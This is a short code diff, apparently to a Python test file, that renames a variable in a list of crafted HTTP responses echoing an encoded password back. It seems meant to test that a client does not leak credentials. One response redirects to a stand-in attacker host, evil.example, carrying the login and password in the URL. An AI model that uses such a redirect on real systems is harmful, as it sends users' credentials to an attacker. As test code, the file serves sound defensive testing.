@@ -39,21 +39,21 @@ ENCODINGS: dict[str, Callable[[str], str]] = {
 }
 ECHO = " ".join([*(encode(PASSWORD) for encode in ENCODINGS.values()), *NUMBERS])
 
-TOLD = ECHO.encode()
+ECHOED = ECHO.encode()
 ANSWERS: list[bytes] = [
-    by_length(TOLD, 400),
-    by_length(TOLD, 406),
-    by_length(TOLD, 500),
-    by_length(TOLD, 404),
+    by_length(ECHOED, 400),
+    by_length(ECHOED, 406),
+    by_length(ECHOED, 500),
+    by_length(ECHOED, 404),
     by_length(json.dumps({"Message": ECHO}).encode(), 400, "Content-Type: application/json"),
     by_length(b"<Error><Message>" + html.escape(ECHO).encode() + b"</Message></Error>", 400),
     by_length(b"", 302, f"Location: https://{LOGIN}:{quote(PASSWORD, safe='')}@evil.example/?{quote(ECHO)}"),
-    by_length(b"<html>" + TOLD, 200, "Content-Type: text/html"),
-    by_length(TOLD, 200, "Content-Type: text/plain"),
-    by_length(TOLD, 200, "Content-Type: " + ECHO.encode().decode("latin-1")),
-    TOLD + b"\r\n\r\n",
-    head(200)[:-2] + TOLD + b"\r\n\r\n",
-    by_length(TOLD, 200)[:-3],
+    by_length(b"<html>" + ECHOED, 200, "Content-Type: text/html"),
+    by_length(ECHOED, 200, "Content-Type: text/plain"),
+    by_length(ECHOED, 200, "Content-Type: " + ECHO.encode().decode("latin-1")),
+    ECHOED + b"\r\n\r\n",
+    head(200)[:-2] + ECHOED + b"\r\n\r\n",
+    by_length(ECHOED, 200)[:-3],
 ]
 TASKS = [
     ("linkengage_api", "path: /senders"),
